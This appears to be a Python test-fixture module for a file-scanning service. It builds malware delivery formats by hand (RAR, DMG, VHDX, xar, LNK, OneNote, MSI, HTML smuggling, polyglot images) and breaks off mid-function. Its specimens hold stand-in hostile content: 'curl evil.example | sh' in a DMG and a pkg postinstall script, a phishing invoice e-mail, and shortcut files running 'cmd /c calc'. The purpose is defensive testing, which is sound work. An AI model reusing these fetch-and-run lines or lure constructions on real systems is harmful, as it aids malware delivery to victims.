"""Specimens of today's delivery formats, built at test time (issue 14): nothing binary is committed.

libarchive writes cpio, ar, ISO 9660 and 7z; pycdlib writes ISO 9660 with Joliet and UDF;
cabarchive writes MSZIP cabinets; officedocs.compound_file writes the OLE compound files an MSI
and an Outlook .msg are made of. No free tool here writes RAR, DMG, VHDX or (with the archi
wheel's libarchive) xar, so this module writes them by hand from their published formats.
"""

from __future__ import annotations

import io
import struct
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any

import cabarchive
import pycdlib

from officedocs import compound_file
from services.extract.libarchive_lib import libarchive



def libarchive_write(fmt: str, members: Iterable[tuple[str, bytes]], options: str = "") -> bytes:
    """An archive in libarchive's write format `fmt` ("cpio_newc", "ar_svr4", "xar", "iso9660", ...)."""
    buf = bytearray()
    with libarchive.custom_writer(lambda block: buf.extend(block) or len(block), fmt, options=options) as writer:
        for name, data in members:
            writer.add_file_from_memory(name, len(data), data)
    return bytes(buf)


def make_cpio(entries: Iterable[tuple[str, bytes, int]]) -> bytes:
    """A "newc" cpio of (name, data, mode) entries; a symlink's data is its target (libarchive-c's
    writer cannot set one). Written by hand: the format is a hex header, the name, the data."""
    out = bytearray()

    def pad() -> None:
        out.extend(b"\0" * (-len(out) % 4))

    for ino, (name, data, mode) in enumerate([*entries, ("TRAILER!!!", b"", 0)], start=1):
        fields = [ino, mode, 0, 0, 1, 0, len(data), 0, 0, 0, 0, len(name) + 1, 0]
        out += b"070701" + b"".join(b"%08x" % field for field in fields) + name.encode() + b"\0"
        pad()
        out += data
        pad()
    return bytes(out)


def make_deb(files: dict[str, bytes]) -> bytes:
    """A Debian package's outer shape: an ar of debian-binary, control.tar.gz and data.tar.gz."""
    data_tar = libarchive_write_filtered("ustar", "gzip", files.items())
    control = libarchive_write_filtered("ustar", "gzip", [("control", b"Package: specimen\nVersion: 1\n")])
    return libarchive_write("ar_svr4", [("debian-binary", b"2.0\n"), ("control.tar.gz", control), ("data.tar.gz", data_tar)])


def libarchive_write_filtered(fmt: str, filter_name: str, members: Iterable[tuple[str, bytes]]) -> bytes:
    buf = bytearray()
    with libarchive.custom_writer(lambda block: buf.extend(block) or len(block), fmt, filter_name=filter_name) as writer:
        for name, data in members:
            writer.add_file_from_memory(name, len(data), data)
    return bytes(buf)


def make_iso(files: dict[str, bytes], joliet: bool = True, udf: bool = False) -> bytes:
    """An ISO 9660 image (level 4 names) with, optionally, Joliet and UDF trees of the same files."""
    iso = pycdlib.PyCdlib()
    iso.new(interchange_level=4, joliet=3 if joliet else None, udf="2.60" if udf else None)
    for name, data in files.items():
        extra = {}
        if joliet:
            extra["joliet_path"] = "/" + name
        if udf:
            extra["udf_path"] = "/" + name
        iso.add_fp(io.BytesIO(data), len(data), iso_path="/" + name.upper().replace("-", "_"), **extra)
    out = io.BytesIO()
    iso.write_fp(out)
    iso.close()
    return out.getvalue()


def make_cab(files: dict[str, bytes], compress: bool = True) -> bytes:
    """A Microsoft cabinet, MSZIP-compressed."""
    cab = cabarchive.CabArchive()
    for name, data in files.items():
        cab[name] = cabarchive.CabFile(data)
    return cab.save(compress=compress)



def msi_name(name: str, table: bool = False) -> str:
    """An MSI stream name in its stored form (two characters packed per code point from U+3800)."""
    alphabet = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz._"
    out = [chr(0x4840)] if table else []
    i = 0
    while i < len(name):
        first = alphabet.index(name[i])
        if i + 1 < len(name) and name[i + 1] in alphabet:
            out.append(chr(0x3800 + first + (alphabet.index(name[i + 1]) << 6)))
            i += 2
        else:
            out.append(chr(0x4800 + first))
            i += 1
    return "".join(out)


def summary_information(title: str) -> bytes:
    """A property set stream with one property, the title (what libmagic reads to call a file an MSI)."""
    text = title.encode() + b"\0"
    text += b"\0" * (-len(text) % 4)
    prop = struct.pack("<II", 0x1E, len(text)) + text
    section = struct.pack("<IIII", 16 + len(prop), 1, 2, 16) + prop
    fmtid = bytes.fromhex("E0859FF2F94F6810AB9108002B27B3D9")  # FMTID_SummaryInformation
    return struct.pack("<HHI", 0xFFFE, 0, 0x20006) + bytes(16) + struct.pack("<I", 1) + fmtid + struct.pack("<I", 48) + section


def make_msi(cab: bytes, binaries: dict[str, bytes]) -> bytes:
    """An MSI-shaped compound file: summary information, a `!_Tables` table stream, an embedded
    cabinet and Binary.* streams."""
    streams = {"\x05SummaryInformation": summary_information("Installation Database"),
               msi_name("_Tables", table=True): b"\0" * 16, msi_name("disk1.cab"): cab}
    streams.update({msi_name(f"Binary.{key}"): data for key, data in binaries.items()})
    return compound_file(streams)


def _utf16(text: str) -> bytes:
    return text.encode("utf-16-le")


def make_msg(headers: str, body: str, html: str, attachments: dict[str, bytes], rtf: bytes = b"") -> bytes:
    """An Outlook .msg: transport headers, plain, HTML and (compressed) RTF bodies, attachments with
    their long names."""
    import compressed_rtf

    streams = {"__properties_version1.0": bytes(32),  # what libmagic looks for to say "Outlook Message"
               "__substg1.0_007D001F": _utf16(headers), "__substg1.0_1000001F": _utf16(body),
               "__substg1.0_10130102": html.encode(), "__substg1.0_0037001F": _utf16("see attached")}
    if rtf:
        streams["__substg1.0_10090102"] = compressed_rtf.compress(rtf, compressed=True)
    for index, (name, data) in enumerate(attachments.items()):
        storage = f"__attach_version1.0_#{index:08X}"
        streams[f"{storage}/__substg1.0_37010102"] = data
        streams[f"{storage}/__substg1.0_3707001F"] = _utf16(name)
    return compound_file(streams)


def make_lnk(target: str, arguments: str = "", working_dir: str = "", icon: str = "", machine_id: str = "",
             description: str = "") -> bytes:
    """A Windows shortcut ([MS-SHLLINK]): header, LinkInfo with the target as its local base path,
    Unicode string data, and a tracker block carrying the machine id (NetBIOS name)."""
    flags = 0x2 | 0x80  # HasLinkInfo, IsUnicode
    strings = b""
    for bit, text in ((0x4, description), (0x10, working_dir), (0x20, arguments), (0x40, icon)):
        if text:
            flags |= bit
            strings += struct.pack("<H", len(text)) + text.encode("utf-16-le")
    header = struct.pack("<I16sII", 0x4C, bytes.fromhex("0114020000000000C000000000000046"), flags, 0x20)
    header += bytes(24) + struct.pack("<IIIHH", 0, 0, 1, 0, 0) + bytes(8)
    base = target.encode("latin-1") + b"\0"
    volume = struct.pack("<IIII", 17, 3, 0x12345678, 16) + b"\0"
    info_header = 28
    body = volume + base + b"\0"  # volume id, local base path, empty common path suffix
    info = struct.pack("<IIIIIII", info_header + len(body), info_header, 1, info_header,
                       info_header + len(volume), 0, info_header + len(volume) + len(base)) + body
    extra = b""
    if machine_id:
        tracker = struct.pack("<II", 0x58, 0) + machine_id.encode().ljust(16, b"\0")[:16] + bytes(64)
        extra += struct.pack("<II", 0x60, 0xA0000003) + tracker
    return header + info + strings + extra + struct.pack("<I", 0)


ONENOTE_HEADER = bytes.fromhex("E4525C7B8CD8A74DAEB15378D02996D3")  # the .one file format GUID


def make_onenote(files: list[bytes]) -> bytes:
    """A OneNote section's shape: its format GUID, filler, and one FileDataStoreObject per file."""
    out = bytearray(ONENOTE_HEADER + bytes(1024 - 16))
    for data in files:
        out += bytes.fromhex("E716E3BD65261145A4C48D4D0B7A9EAC") + struct.pack("<QIQ", len(data), 0, 0)
        out += data + bytes(-len(data) % 8) + bytes.fromhex("22A7FB71790F0B4ABB13899256426B24")
        out += bytes(64)
    return bytes(out)


def make_pyinstaller(stub: bytes, scripts: dict[str, bytes], pyz: bytes = b"PYZ\0" + bytes(60), pyver: int = 311) -> bytes:
    """A PyInstaller-shaped executable: `stub` (a real PE), then a CArchive of zlib-compressed
    entry scripts ('s') and one PYZ ('z'), its table of contents and the 2.1+ cookie."""
    import zlib

    body = bytearray()
    toc = bytearray()
    for kind, name, data in [*(("s", n, d) for n, d in scripts.items()), ("z", "PYZ-00.pyz", pyz)]:
        packed = zlib.compress(data) if kind == "s" else data
        entry_name = name.encode() + b"\0"
        entry_name += b"\0" * (-(18 + len(entry_name)) % 16)
        toc += struct.pack(">IIIIBc", 18 + len(entry_name), len(body), len(packed), len(data), int(kind == "s"),
                           kind.encode()) + entry_name
        body += packed
    toc_at = len(body)
    package = len(body) + len(toc) + 88
    cookie = struct.pack(">8sIIII64s", b"MEI\x0c\x0b\x0a\x0b\x0e", package, toc_at, len(toc), pyver, b"python311.dll")
    return stub + bytes(body) + bytes(toc) + cookie


def append_to_image(kind: str, payload: bytes) -> bytes:
    """A small real image (made by Pillow) with `payload` concatenated after its end."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (16, 16), (200, 30, 30)).save(out, format=kind)
    return out.getvalue() + payload


def make_dmg(volume: bytes | None = None, compress: bool = True, chunk_sectors: int = 2048) -> bytes:
    """An Apple UDIF disk image (.dmg) of the disk `volume` (default: a FAT volume with one file),
    its data fork as zlib-compressed (UDZO) or raw (UDRO) chunks. libmagic sees only "zlib
    compressed data"; magika knows it."""
    import zlib

    if volume is None:
        volume = make_fat({"Install.app/run.command": b"#!/bin/sh\ncurl evil.example | sh\n"})
    volume = volume.ljust(-(-len(volume) // 512) * 512, b"\0")
    data, chunks = b"", []
    for first in range(0, len(volume) // 512, chunk_sectors):
        raw = volume[first * 512:(first + chunk_sectors) * 512]
        packed = zlib.compress(raw) if compress else raw
        chunks.append((UDIF_ZLIB if compress else UDIF_RAW, first, len(raw) // 512, len(data), len(packed)))
        data += packed
    return udif(data, chunks)


UDIF_RAW, UDIF_ZLIB = 0x00000001, 0x80000005


def udif(data_fork: bytes, chunks: list[tuple[int, int, int, int, int]]) -> bytes:
    """A UDIF image written by hand from its layout: the data fork, the XML property list whose
    `blkx` entry holds the base64 `mish` block table (chunks of (type, first sector, sectors,
    offset in the data fork, length), then the terminator), and the 512-byte `koly` trailer."""
    import base64

    sectors = max((first + count for _, first, count, _, _ in chunks), default=0)
    table = [struct.pack(">IIQQQQ", kind, 0, first, count, offset, length) for kind, first, count, offset, length in chunks]
    table.append(struct.pack(">IIQQQQ", 0xFFFFFFFF, 0, sectors, 0, len(data_fork), 0))
    mish = (struct.pack(">4sIQQQII", b"mish", 1, 0, sectors, 0, 0, 0) + bytes(24) + struct.pack(">II", 2, 32) + bytes(128)
            + struct.pack(">I", len(table)) + b"".join(table))
    name = "disk image (DOS_FAT_12 : 1)"
    plist = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
             '"http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict><key>resource-fork</key>'
             '<dict><key>blkx</key><array><dict><key>Attributes</key><string>0x0050</string>'
             f'<key>CFName</key><string>{name}</string><key>Data</key><data>{base64.b64encode(mish).decode()}</data>'
             f'<key>ID</key><string>0</string><key>Name</key><string>{name}</string></dict></array></dict></dict></plist>\n').encode()
    koly = struct.pack(">4sIIIQQQQQII16sII128sQQ120sII128sIQ12s", b"koly", 4, 512, 1, 0, 0, len(data_fork), 0, 0, 1, 1,
                       bytes(16), 0, 0, bytes(128), len(data_fork), len(plist), bytes(120), 0, 0, bytes(128), 1, sectors,
                       bytes(12))
    return data_fork + plist + koly


def make_udf(files: dict[str, bytes]) -> bytes:
    """A UDF-only image (no ISO 9660 side, as Windows mounts them): pycdlib writes a UDF bridge
    image, whose ISO 9660 descriptors are then replaced by the UDF volume recognition sequence
    (BEA01, NSR02, TEA01) moved up to 32 KiB, where a reader looks first."""
    image = bytearray(make_iso(files, joliet=False, udf=True))
    sector = 2048
    first = next(index for index in range(16, 32) if image[index * sector + 1:index * sector + 6] == b"BEA01")
    sequence = image[first * sector:(first + 3) * sector]
    image[16 * sector:first * sector + 3 * sector] = bytes((first - 16 + 3) * sector)
    image[16 * sector:19 * sector] = sequence
    return bytes(image)


@dataclass(frozen=True)
class Specimen:
    """One file of a format, with the type it must get and whether a service should open it."""

    format: str
    name: str
    data: bytes
    expected: str
    container: bool  # something should come out of it (children or URI samples)


def specimens() -> list[Specimen]:
    """The issue 14 formats, one specimen or more each, built now (about 1 MB in all)."""
    from PIL import Image

    def image(fmt: str) -> bytes:
        out = io.BytesIO()
        Image.new("RGB", (32, 32), (10, 120, 200)).save(out, format=fmt)
        return out.getvalue()

    import base64
    from pathlib import Path

    import pip._vendor.distlib

    launcher = (Path(pip._vendor.distlib.__file__).parent / "t64.exe").read_bytes()
    cab = make_cab({"setup.exe": b"MZ" + bytes(300), "readme.txt": b"hello"})
    zipped = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(zipped, "w") as zf:
        zf.writestr("payload.js", "WScript.Echo(1)")
    eml = (b"From: Billing <billing@evil.example>\nTo: v@victim.example\nSubject: invoice\nMIME-Version: 1.0\n"
           b"Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nThe password is: Inv2026x\n"
           b"--b\nContent-Type: application/zip\nContent-Disposition: attachment; filename=inv.zip\n"
           b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(zipped.getvalue()) + b"--b--\n")
    one = make_onenote([b'<hta:application/><script language="VBScript">CreateObject("WScript.Shell")</script>'])
    return [
        Specimen("ISO 9660 + Joliet", "delivery.iso", make_iso({"invoice.pdf.lnk": make_lnk(r"C:\Windows\System32\cmd.exe", "/c calc")}), "archive/iso", True),
        Specimen("ISO 9660 + UDF", "delivery-udf.iso", make_iso({"a.txt": b"udf"}, udf=True), "archive/iso", True),
        Specimen("CAB (MSZIP)", "update.cab", cab, "archive/cab", True),
        Specimen("RAR 4 (stored)", "invoice.rar", make_rar4_stored({"invoice.pdf.lnk": b"L\0\0\0 lnk"}), "archive/rar", True),
        Specimen("RAR 5 (stored)", "invoice5.rar", make_rar5_stored({"invoice.pdf.lnk": b"L\0\0\0 lnk"}), "archive/rar", True),
        Specimen("RAR 4 (AES-128, password 'infected')", "locked4.rar",
                 make_rar4_stored({"invoice.pdf.lnk": b"L\0\0\0 lnk"}, password="infected"), "archive/rar", True),
        Specimen("RAR 5 (AES-256, password 'infected')", "locked.rar",
                 make_rar5_stored({"invoice.pdf.lnk": b"L\0\0\0 lnk"}, password="infected"), "archive/rar", True),
        Specimen("RAR 5 (encrypted headers)", "locked-names.rar",
                 make_rar5_stored({"invoice.pdf.lnk": b"L\0\0\0 lnk"}, password="infected", encrypt_headers=True),
                 "archive/rar", True),
        Specimen("MSI", "setup.msi", make_msi(cab, {"CustomAction": b"MZ dll"}), "document/installer/windows", True),
        Specimen("cpio", "initrd.cpio", make_cpio([("bin/sh", b"#!/bin/sh\n", 0o100755)]), "archive/cpio", True),
        Specimen(".deb", "helper.deb", make_deb({"./usr/bin/helper": b"#!/bin/sh\n"}), "archive/deb", True),
        Specimen("ar", "lib.a", libarchive_write("ar_svr4", [("a.o", b"\x7fELF object")]), "archive/ar", True),
        Specimen("xar (.pkg)", "installer.pkg", make_xar({"Payload/Install.app/Contents/MacOS/Install": b"\xcf\xfa\xed\xfe mach-o",
                                                          "Scripts/postinstall": b"#!/bin/sh\ncurl evil.example|sh\n"}),
                 "archive/xar", True),
        Specimen("DMG (UDZO, FAT)", "app.dmg", make_dmg(), "archive/dmg", True),
        Specimen("UDF image (no ISO 9660)", "disk.img", make_udf({"invoice.pdf.lnk": b"L\0\0\0 lnk"}), "archive/udf", True),
        Specimen("e-mail (.eml)", "invoice.eml", eml, "text/email", True),
        Specimen("Outlook (.msg)", "invoice.msg", make_msg("From: a@evil.example\nSubject: x\n", "see", "<p>x</p>",
                                                            {"a.lnk": b"L\0\0\0"}), "document/office/email", True),
        Specimen("LNK", "invoice.pdf.lnk", make_lnk(r"C:\Windows\System32\cmd.exe", "/c calc.exe -testCommands",
                                                   machine_id="desktop-1"), "shortcut/windows", False),
        Specimen(".url", "open.url", b"[InternetShortcut]\r\nURL=https://evil.example/x.hta\r\n", "shortcut/web", True),
        Specimen(".iqy", "q.iqy", b"WEB\r\n1\r\nhttps://evil.example/q\r\n", "shortcut/iqy", True),
        Specimen(".settingcontent-ms", "s.settingcontent-ms",
                 b'<?xml version="1.0"?>\n<PCSettings><DeepLink>cmd /c calc</DeepLink></PCSettings>', "shortcut/settingcontent", False),
        Specimen(".jnlp", "app.jnlp", b'<?xml version="1.0"?>\n<jnlp codebase="http://evil.example/"><jar href="a.jar"/></jnlp>',
                 "shortcut/jnlp", True),
        Specimen("OneNote", "lure.one", one, "document/office/onenote", True),
        Specimen("HTML smuggling", "page.html",
                 b"<html><script>var d='" + base64.b64encode(zipped.getvalue()) + b"';var b=new Blob([atob(d)]);"
                 b"a.download='inv.zip';</script></html>", "code/html", True),
        Specimen("PE + zip overlay", "dropper.exe", launcher + zipped.getvalue(), "executable/windows/pe64", True),
        Specimen("PE appended to PNG", "cat.png", append_to_image("PNG", launcher), "image/png", True),
        Specimen("RAR appended to JPEG", "cat.jpg", append_to_image("JPEG", b"Rar!\x1a\x07\x01\x00" + bytes(64)), "image/jpeg", True),
        Specimen("base64 PE in text", "payload.txt", base64.encodebytes(launcher), "text/plain", True),
        Specimen("PyInstaller", "frozen.exe", make_pyinstaller(launcher, {"main": b"c\0\0\0"}), "executable/windows/pe64", True),
        Specimen("WebP", "a.webp", image("WEBP"), "image/webp", False),
        Specimen("ICO", "a.ico", image("ICO"), "image/icon", False),
        Specimen("pcap", "a.pcap", bytes.fromhex("D4C3B2A1020004000000000000000000FFFF000001000000"), "network/tcpdump", False),
        Specimen("pcapng", "a.pcapng", bytes.fromhex("0A0D0D0A1C0000004D3C2B1A01000000FFFFFFFFFFFFFFFF1C000000"),
                 "network/tcpdump", False),
        Specimen("GPG message", "m.gpg", b"-----BEGIN PGP MESSAGE-----\n\nhQEMA5\n-----END PGP MESSAGE-----\n", "document/pgp", False),
        Specimen("VHDX (dynamic, MBR + FAT)", "disk.vhdx", make_vhdx(make_mbr_disk(make_fat({"invoice.pdf.lnk": b"L\0\0\0 lnk"}))),
                 "archive/vhdx", True),
        Specimen("VHD (dynamic, FAT)", "disk.vhd", make_vhd(make_fat({"invoice.pdf.lnk": b"L\0\0\0 lnk"})), "archive/vhd", True),
        Specimen("disk image (.img, MBR + FAT)", "disk.img", make_mbr_disk(make_fat({"run.bat": b"@echo off"})), "archive/img", True),
    ]


def rar4_block(head_type: int, flags: int, body: bytes) -> bytes:
    import zlib

    header = struct.pack("<BHH", head_type, flags, 7 + len(body)) + body
    return struct.pack("<H", zlib.crc32(header) & 0xFFFF) + header


def make_rar4_stored(files: dict[str, bytes], encrypted: bool = False, password: str | None = None,
                     comment: bytes = b"") -> bytes:
    """A RAR 4 archive of stored (uncompressed) members, written by hand from the RAR 4 technote:
    the marker block, the archive header, one file header (+ data) per member, the end block.
    `encrypted` sets each member's password flag (its bytes stay as given: a stand-in ciphertext);
    `password` encrypts each member as RAR 3.x does: AES-128-CBC, key and IV from 2**18 SHA-1
    rounds over the UTF-16 password, an 8-byte salt and the round number (salt in the header).
    `comment`: the archive comment, a stored "CMT" sub-block (RAR 3.x's) after the archive header."""
    import os
    import zlib

    from Cryptodome.Cipher import AES

    out = b"Rar!\x1a\x07\x00" + rar4_block(0x73, 0, bytes(6))
    if comment:
        out += rar4_block(0x7A, 0x8000, struct.pack("<IIBIIBBHI", len(comment), len(comment), 2, zlib.crc32(comment),
                                                    0x5A210000, 29, 0x30, 3, 0) + b"CMT") + comment
    for name, data in files.items():
        encoded = name.encode()
        stored, salt, flags = data, b"", 0x8000
        if password is not None:
            salt = os.urandom(8)
            key, iv = _rar3_key(password, salt)
            stored = AES.new(key, AES.MODE_CBC, iv).encrypt(data + bytes(-len(data) % 16))
            flags |= 0x4 | 0x400  # LHD_PASSWORD, LHD_SALT
        elif encrypted:
            flags |= 0x4
        body = struct.pack("<IIBIIBBHI", len(stored), len(data), 2, zlib.crc32(data), 0x5A210000,
                           29 if flags & 0x4 else 20, 0x30, len(encoded), 0x20)
        out += rar4_block(0x74, flags, body + encoded + salt) + stored
    return out + rar4_block(0x7B, 0x4000, b"")


def _rar3_key(password: str, salt: bytes) -> tuple[bytes, bytes]:
    """RAR 3.x's AES-128 key and IV: SHA-1 over 2**18 rounds of (UTF-16LE password, salt, the
    round number in 3 bytes); every 2**14 rounds the running digest's last byte is an IV byte;
    the key is the final digest's first four words, each byte-swapped."""
    import hashlib

    raw = password.encode("utf-16-le") + salt
    sha = hashlib.sha1()
    iv = bytearray(16)
    rounds = 0x40000
    for index in range(rounds):
        sha.update(raw + index.to_bytes(3, "little"))
        if index % (rounds // 16) == 0:
            iv[index // (rounds // 16)] = sha.copy().digest()[19]
    digest = sha.digest()
    return b"".join(digest[word * 4:word * 4 + 4][::-1] for word in range(4)), bytes(iv)


def make_xar(files: dict[str, bytes], links: dict[str, str] | None = None, compress: bool = True) -> bytes:
    """A xar archive (macOS .pkg, .xip) written by hand from the format: a 28-byte header, the
    zlib-compressed XML table of contents, then the heap (the TOC's SHA-1, each file's data,
    zlib-compressed or stored). Names are written as given, '/' making nested <file>s; `links`:
    symlinks (name → target). libarchive writes xar only when built with libxml2, which the
    archi wheel's is not."""
    import hashlib
    import zlib
    from xml.sax.saxutils import escape

    heap = bytearray(20)  # the TOC's checksum goes first
    root: dict[str, Any] = {}  # name -> a file's XML body, or a folder's dict
    counter = iter(range(1, 1_000_000))

    def place(path: str, body: str) -> None:
        parts = [path] if path.startswith("/") else path.split("/")  # an absolute name stays one <name>
        node = root
        for part in parts[:-1]:
            node = node.setdefault(part, {})
        node[parts[-1]] = body

    def render(node: dict[str, Any]) -> str:
        return "".join(f'<file id="{next(counter)}"><name>{escape(name)}</name>'
                       + (value if isinstance(value, str) else "<type>directory</type>" + render(value)) + "</file>"
                       for name, value in node.items())

    for path, data in files.items():
        packed = zlib.compress(data) if compress else data
        style = "application/x-gzip" if compress else "application/octet-stream"
        place(path, f"<type>file</type><data><length>{len(packed)}</length><offset>{len(heap)}</offset><size>{len(data)}</size>"
                    f'<encoding style="{style}"/><archived-checksum style="sha1">{hashlib.sha1(packed).hexdigest()}'
                    f'</archived-checksum><extracted-checksum style="sha1">{hashlib.sha1(data).hexdigest()}</extracted-checksum></data>')
        heap += packed
    for path, target in (links or {}).items():
        place(path, f'<type>symlink</type><link type="file">{escape(target)}</link>')
    toc = ('<?xml version="1.0" encoding="UTF-8"?>\n<xar><toc><checksum style="sha1"><offset>0</offset><size>20</size>'
           f"</checksum>{render(root)}</toc></xar>\n").encode()
    packed_toc = zlib.compress(toc)
    heap[:20] = hashlib.sha1(packed_toc).digest()
    return struct.pack(">4sHHQQI", b"xar!", 28, 1, len(packed_toc), len(toc), 1) + packed_toc + bytes(heap)


def make_fat(files: dict[str, bytes], size: int = 2 * 1024 * 1024) -> bytes:
    """A FAT12 volume (no partition table, as a floppy or a USB stick image) holding `files`
    ({"dir/name": bytes}), formatted by pyfatfs in a temporary file."""
    import tempfile
    from pathlib import Path

    from pyfatfs.PyFat import PyFat
    from pyfatfs.PyFatFS import PyFatFS

    with tempfile.TemporaryDirectory(prefix="sluice-fat-") as folder:
        path = Path(folder) / "volume.img"
        path.write_bytes(bytes(size))
        formatter = PyFat()
        formatter.mkfs(str(path), PyFat.FAT_TYPE_FAT12, size=size)
        formatter.close()
        volume = PyFatFS(str(path))
        for name, data in files.items():
            parent = name.rsplit("/", 1)[0] if "/" in name else ""
            if parent and not volume.exists("/" + parent):
                volume.makedirs("/" + parent)
            volume.writebytes("/" + name, data)
        volume.close()
        return path.read_bytes()


def _vhd_footer(size: int, dynamic: bool) -> bytes:
    cylinders, heads, sectors = min(65535, size // (16 * 63 * 512) + 1), 16, 63
    footer = bytearray(struct.pack(">8sIIQI4sI4sQQHBBII16sB", b"conectix", 2, 0x00010000,
                                   512 if dynamic else 0xFFFFFFFFFFFFFFFF, 0, b"sluc", 0x00010000, b"Wi2k",
                                   size, size, cylinders, heads, sectors, 3 if dynamic else 2, 0, bytes(range(16)), 0))
    footer += bytes(512 - len(footer))
    struct.pack_into(">I", footer, 64, ~sum(footer) & 0xFFFFFFFF)
    return bytes(footer)


def make_vhd(raw: bytes, dynamic: bool = True, block_size: int = 2 * 1024 * 1024) -> bytes:
    """A VHD of the disk `raw`: fixed (the disk, then the footer) or dynamic (footer copy, sparse
    header, block allocation table, only the blocks that are not all zeros, footer)."""
    raw = raw.ljust(-(-len(raw) // block_size) * block_size, b"\0")
    footer = _vhd_footer(len(raw), dynamic)
    if not dynamic:
        return raw + footer
    entries = len(raw) // block_size
    table_at = 512 + 1024
    table_bytes = -(-entries * 4 // 512) * 512
    header = bytearray(struct.pack(">8sQQIIII", b"cxsparse", 0xFFFFFFFFFFFFFFFF, table_at, 0x00010000, entries, block_size, 0))
    header += bytes(1024 - len(header))
    struct.pack_into(">I", header, 36, ~sum(header) & 0xFFFFFFFF)
    bitmap = b"\xff" * (block_size // 512 // 8)
    bitmap += bytes(-len(bitmap) % 512)
    table, blocks = [], b""
    position = table_at + table_bytes
    for index in range(entries):
        block = raw[index * block_size:(index + 1) * block_size]
        if not block.strip(b"\0"):
            table.append(0xFFFFFFFF)
            continue
        table.append((position + len(blocks)) // 512)
        blocks += bitmap + block
    bat = struct.pack(f">{entries}I", *table).ljust(table_bytes, b"\xff")
    return footer + bytes(header) + bat + blocks + footer


_VHDX_MIB = 1024 * 1024
_VHDX_GUIDS = {name: uuid for name, uuid in (
    ("bat", "2DC27766-F623-4200-9D64-115E9BFD4A08"), ("metadata", "8B7CA206-4790-4B9A-B8FE-575F050F886E"),
    ("file parameters", "CAA16737-FA36-4D43-B3B6-33F0AA44E76B"), ("disk size", "2FA54224-CD1B-4876-B211-5DBED83BF4B8"),
    ("page 83", "BECA12AB-B2E6-4523-93EF-C309E000C746"), ("logical sector", "8141BF1D-A96F-4709-BA47-F233A8FAAB5F"),
    ("physical sector", "CDA348C7-445D-4471-9CC9-E9885251C556"))}


def make_vhdx(raw: bytes, block_size: int = _VHDX_MIB) -> bytes:
    """A dynamic VHDX of the disk `raw`, written by hand from [MS-VHDX]: the file identifier, two
    headers and two region tables (CRC-32C), an empty log, the metadata region (block size, disk
    size, sector sizes, disk id), the block allocation table and, MiB-aligned, only the blocks
    that are not all zeros (so a sparse disk's zeros are declared, not stored)."""
    import uuid

    from dissect.util.hash.crc32c import crc32c

    def guid(name: str) -> bytes:
        return uuid.UUID(_VHDX_GUIDS[name]).bytes_le

    def checksummed(body: bytearray) -> bytes:
        struct.pack_into("<I", body, 4, 0)  # the CRC-32C is over the structure with its checksum field zero
        struct.pack_into("<I", body, 4, crc32c(bytes(body)))
        return bytes(body)

    size = -(-len(raw) // block_size) * block_size
    log_at, metadata_at, bat_at, data_at = _VHDX_MIB, 2 * _VHDX_MIB, 3 * _VHDX_MIB, 4 * _VHDX_MIB
    out = bytearray(data_at)
    out[:8 + 32] = b"vhdxfile" + "sluice tests".encode("utf-16-le").ljust(32, b"\0")
    for index, at in enumerate((64 * 1024, 128 * 1024)):
        header = bytearray(4096)
        struct.pack_into("<4sIQ16s16s16sHHIQ", header, 0, b"head", 0, index + 1, bytes(range(16)), bytes(range(16)),
                         bytes(16), 0, 1, _VHDX_MIB, log_at)
        out[at:at + 4096] = checksummed(header)
    regions = bytearray(64 * 1024)
    struct.pack_into("<4sIII", regions, 0, b"regi", 0, 2, 0)
    struct.pack_into("<16sQII", regions, 16, guid("bat"), bat_at, _VHDX_MIB, 1)
    struct.pack_into("<16sQII", regions, 48, guid("metadata"), metadata_at, _VHDX_MIB, 1)
    for at in (192 * 1024, 256 * 1024):
        out[at:at + len(regions)] = checksummed(regions)
    items = [("file parameters", struct.pack("<II", block_size, 0), 0b100),
             ("disk size", struct.pack("<Q", size), 0b110), ("page 83", bytes(range(16, 32)), 0b110),
             ("logical sector", struct.pack("<I", 512), 0b110), ("physical sector", struct.pack("<I", 4096), 0b110)]
    table = struct.pack("<8sHH20x", b"metadata", 0, len(items))
    offset = 64 * 1024
    values = b""
    for name, value, flags in items:
        table += struct.pack("<16sIII4x", guid(name), offset + len(values), len(value), flags)
        values += value
    out[metadata_at:metadata_at + len(table)] = table
    out[metadata_at + offset:metadata_at + offset + len(values)] = values
    chunk_ratio = (2**23 * 512) // block_size  # payload blocks per sector-bitmap entry in the table
    blocks = b""
    for index in range(size // block_size):
        block = raw[index * block_size:(index + 1) * block_size]
        if not block.strip(b"\0"):
            continue  # PAYLOAD_BLOCK_NOT_PRESENT: reads as zeros
        position = data_at + len(blocks)
        entry = index + index // chunk_ratio
        struct.pack_into("<Q", out, bat_at + 8 * entry, (position // _VHDX_MIB) << 20 | 6)  # PAYLOAD_BLOCK_FULLY_PRESENT
        blocks += block.ljust(block_size, b"\0")
    return bytes(out) + blocks


def make_mbr_disk(volume: bytes, partition_type: int = 0x01) -> bytes:
    """A disk with an MBR partition table whose one partition (at 1 MiB) is `volume`."""
    start, sectors = 2048, -(-len(volume) // 512)
    mbr = bytearray(512)
    mbr[446:462] = struct.pack("<B3sB3sII", 0, b"\0\0\0", partition_type, b"\0\0\0", start, sectors)
    mbr[510:512] = b"\x55\xaa"
    return bytes(mbr) + bytes(start * 512 - 512) + volume.ljust(sectors * 512, b"\0")


def make_ntfs(files: dict[str, bytes], size: int = 8 * 1024 * 1024) -> bytes:
    """An NTFS volume holding `files` (in its root), made by ntfs-3g's mkntfs and ntfscp (Debian's
    `ntfs-3g`): no Python library writes NTFS. Raises FileNotFoundError without them."""
    import shutil
    import subprocess
    import tempfile
    from pathlib import Path

    mkntfs, ntfscp = shutil.which("mkntfs") or "/usr/sbin/mkntfs", shutil.which("ntfscp") or "/usr/bin/ntfscp"
    if not (Path(mkntfs).exists() and Path(ntfscp).exists()):
        raise FileNotFoundError("mkntfs/ntfscp (Debian package ntfs-3g) are not installed")
    with tempfile.TemporaryDirectory(prefix="sluice-ntfs-") as folder:
        image = Path(folder) / "volume.img"
        image.write_bytes(bytes(size))
